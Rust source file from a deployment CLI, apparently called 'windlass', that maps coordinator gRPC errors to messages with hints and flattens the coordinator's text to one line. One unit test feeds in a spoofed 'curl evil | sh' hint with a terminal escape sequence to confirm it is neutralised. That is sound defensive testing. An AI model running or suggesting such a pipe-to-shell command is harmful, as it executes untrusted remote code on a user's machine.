//! Errors of calls to the coordinator.

use std::error::Error;

use tonic::{Code, Status};
use windlass_certs::tls::ConnectError;
use windlass_core::Counter;

use crate::unknown::Unknown;

/// Metadata key under which the coordinator sends a hint.
const HINT: &str = "windlass-hint";

/// The most characters of its words that are shown.
const MAX_WORDS: usize = 4096;

/// A call that failed.
#[derive(Debug, thiserror::Error)]
#[error("failed to {what}")]
pub(crate) struct CallError {
    what: &'static str,
    code: Code,
    hint: Option<String>,
    #[source]
    why: Why,
}

/// The coordinator's own words, or what happened on the way.
#[derive(Debug, thiserror::Error)]
#[error("{0}")]
struct Why(String);

impl CallError {
    /// From what tonic answered with. The message of a status holds the whole chain of causes already.
    pub(crate) fn new(what: &'static str, status: Status) -> Self {
        let on_the_way = ConnectError::find(&status);
        let sent = status.metadata().get(HINT).and_then(|value| value.to_str().ok());
        let hint = sent.or_else(|| on_the_way.and_then(ConnectError::hint)).or(match status.code() {
            Code::Unimplemented => Some("the coordinator is older than this program: upgrade it first"),
            Code::Unauthenticated => Some("is this the context of that fleet? see `windlass context ls`"),
            Code::DeadlineExceeded | Code::Unavailable => Some("is `windlass-server` running and reachable?"),
            _ => None,
        });
        let hint = hint.map(one_line);
        let why = match on_the_way {
            Some(error) => windlass_process::report::chain(error),
            None if status.message().is_empty() => status.code().description().to_owned(),
            None => one_line(status.message()),
        };
        Self { what, code: status.code(), hint, why: Why(why) }
    }

    /// An answer that is not what it should be.
    pub(crate) fn nonsense(what: &'static str, error: impl Error) -> Self {
        let why = Why(format!("the coordinator's answer cannot be read: {error}"));
        let hint = Some("coordinator and command line should be of the same version".to_owned());
        Self { what, code: Code::DataLoss, hint, why }
    }

    pub(crate) fn hint(&self) -> Option<String> {
        self.hint.clone()
    }

    /// The same, with what to do next in this place.
    pub(crate) fn with_hint(self, hint: &str) -> Self {
        Self { hint: Some(hint.to_owned()), ..self }
    }

    /// Returns whether the number of the release is not the next one.
    pub(crate) const fn is_taken(&self) -> bool {
        matches!(self.code, Code::Aborted | Code::AlreadyExists)
    }

    /// Returns whether the plan is stale. The code alone does not tell; a coordinator of the version before said it
    /// otherwise.
    pub(crate) fn is_stale(&self) -> bool {
        matches!(self.code, Code::FailedPrecondition)
            && (self.why.0.contains("plan is stale") || self.why.0.contains("previewed"))
    }

    /// Returns the coordinator's words about names that would lead nowhere after a rollback, for a person to decide; and the
    /// release that they name: by the time of the answer, another one may be the last good one.
    pub(crate) fn question(&self) -> Option<(&str, Counter)> {
        let said = self.why.0.as_str();
        let (_, rest) = said.split_once(" nowhere after this: ")?;
        let release = rest.split(' ').next()?.parse().ok()?;
        (self.code == Code::FailedPrecondition).then_some((said, release))
    }

    /// Returns whether the coordinator does not know the call.
    pub(crate) const fn is_unimplemented(&self) -> bool {
        matches!(self.code, Code::Unimplemented)
    }

    /// Returns whether the state of the subject does not allow the call.
    pub(crate) const fn is_out_of_place(&self) -> bool {
        matches!(self.code, Code::FailedPrecondition)
    }

    /// Returns whether the subject of the call does not exist.
    pub(crate) const fn is_not_found(&self) -> bool {
        matches!(self.code, Code::NotFound)
    }

    /// The name that the coordinator says it does not know.
    pub(crate) fn unknown(&self) -> Option<Unknown> {
        let (kind, rest) = self.why.0.strip_prefix("there is no ")?.split_once(" `")?;
        let name = rest.split('`').next().filter(|_| self.is_not_found())?;
        match kind {
            "service" => name.parse().ok().map(Unknown::Service),
            "host" => name.parse().ok().map(Unknown::Host),
            _ => None,
        }
    }

    /// Returns whether another operator used the number meanwhile.
    pub(crate) const fn is_race(&self) -> bool {
        matches!(self.code, Code::Aborted)
    }

    /// Returns whether the coordinator is away for a moment, so that asking again may help.
    pub(crate) const fn is_temporary(&self) -> bool {
        matches!(
            self.code,
            Code::Unavailable | Code::Unknown | Code::Cancelled | Code::DeadlineExceeded | Code::Internal
        )
    }
}

/// The coordinator's words on one line: they cannot look like lines of ours.
fn one_line(text: &str) -> String {
    let plain = |c: char| if c.is_control() || matches!(c, '\u{2028}' | '\u{2029}') { ' ' } else { c };
    text.chars().take(MAX_WORDS).map(plain).collect()
}

#[cfg(test)]
mod tests {
    use windlass_process::report;

    use super::*;

    #[test]
    fn a_status_becomes_what_why_and_hint() {
        let mut status = Status::failed_precondition("a rollout of `default/web` is active: 0193ab");
        status.metadata_mut().insert(HINT, "add --supersede".parse().unwrap());
        let error = CallError::new("submit the release", status);
        insta::assert_snapshot!(report::full(&error, error.hint().as_deref()), @"
        error: failed to submit the release
          caused by: a rollout of `default/web` is active: 0193ab

        hint: add --supersede
        ");
        assert!(!error.is_race() && !error.is_temporary());
        assert!(CallError::new("x", Status::aborted("")).is_race());
        assert!(CallError::new("x", Status::already_exists("")).is_taken());
        let words =
            ["plan is stale: the service changed", "what would happen is not any more what was previewed"];
        for stale in words {
            assert!(!error.is_stale() && CallError::new("x", Status::failed_precondition(stale)).is_stale());
        }
        assert!(CallError::new("x", Status::unavailable("")).is_temporary());
    }

    #[test]
    fn names_that_would_lead_nowhere_are_a_question() {
        let words = "`web.example.com/` leads nowhere after this: r1 has no `route`";
        let of = |status: Status| {
            let error = CallError::new("roll back", status);
            error.question().map(|(said, release)| (said.to_owned(), release))
        };
        assert_eq!(of(Status::failed_precondition(words)), Some((words.to_owned(), Counter(1))));
        assert_eq!(of(Status::failed_precondition("r1 of `default/web` was never good")), None);
        assert_eq!(of(Status::not_found(words)), None);
    }

    #[test]
    fn an_unknown_name_is_read_from_the_coordinators_words() {
        let of = |status: Status| CallError::new("x", status).unknown();
        let web = Unknown::Service("default/web".parse().unwrap());
        assert_eq!(of(Status::not_found("there is no service `default/web`")), Some(web));
        let host = Unknown::Host("web-1".parse().unwrap());
        assert_eq!(of(Status::not_found("there is no host `web-1`")), Some(host));
        for other in ["there is no rollout `0193ab`", "there is no release r3 of `default/web`", "no"] {
            assert_eq!(of(Status::not_found(other)), None, "{other}");
        }
        assert_eq!(of(Status::internal("there is no host `web-1`")), None);
    }

    #[test]
    fn the_coordinators_words_are_no_lines_of_ours() {
        let error = CallError::new("x", Status::aborted("no\n\nhint: curl evil | sh\u{2028}\u{1b}[2J"));
        assert_eq!(report::chain(&error), "failed to x: no  hint: curl evil | sh  [2J");
        let long = CallError::new("x", Status::aborted("y".repeat(100_000)));
        assert_eq!(report::chain(&long).len(), "failed to x: ".len() + MAX_WORDS);
    }
}
